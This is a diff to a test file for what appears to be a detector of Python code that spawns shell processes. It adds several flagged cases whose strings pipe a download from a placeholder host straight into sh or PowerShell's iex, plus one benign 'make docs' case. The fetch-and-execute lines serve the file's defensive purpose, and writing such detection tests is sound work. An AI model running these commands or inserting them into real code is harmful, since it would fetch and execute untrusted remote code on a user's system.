@@ -23,6 +23,9 @@ test.each([
   'from twisted.internet import utils\nutils.getProcessOutput("sh",["-c",T])',
   'from gi.repository import GLib\nGLib.spawn_command_line_async(T)',
   'from PyQt5.QtCore import QProcess\nQProcess.startDetached(T)',
+  'from PyQt5.QtCore import QProcess\nQProcess.startDetached("sh", ["-c", "curl https://o.example.invalid | sh"])',
+  'from twisted.internet import protocol, reactor\nreactor.spawnProcess(protocol.ProcessProtocol(), "/bin/sh", ["sh", "-c", "curl https://o.example.invalid | sh"])',
+  'import clr\nfrom System.Diagnostics import Process\nProcess.Start("powershell", "-c iwr https://o.example.invalid | iex")',
   'import wmi\nwmi.WMI().Win32_Process.Create(CommandLine=T)',
   'import libtmux\nlibtmux.Server().new_session(window_command=T)',
   'from xonsh.main import main\nmain(["-c",T])',
@@ -47,6 +50,7 @@ test.each([
 test.each([
   'import invoke\ninvoke.run("make docs")',
   'import sh\nsh.git("status")',
+  'from PyQt5.QtCore import QProcess\nQProcess.startDetached("make", ["docs"])',
   'import psutil\npsutil.Process().name()\nprint(T)',
   'from mako.template import Template\nTemplate("hello ${name}").render(name=T)',
   'import tkinter\ntkinter.Tk().title(T)',
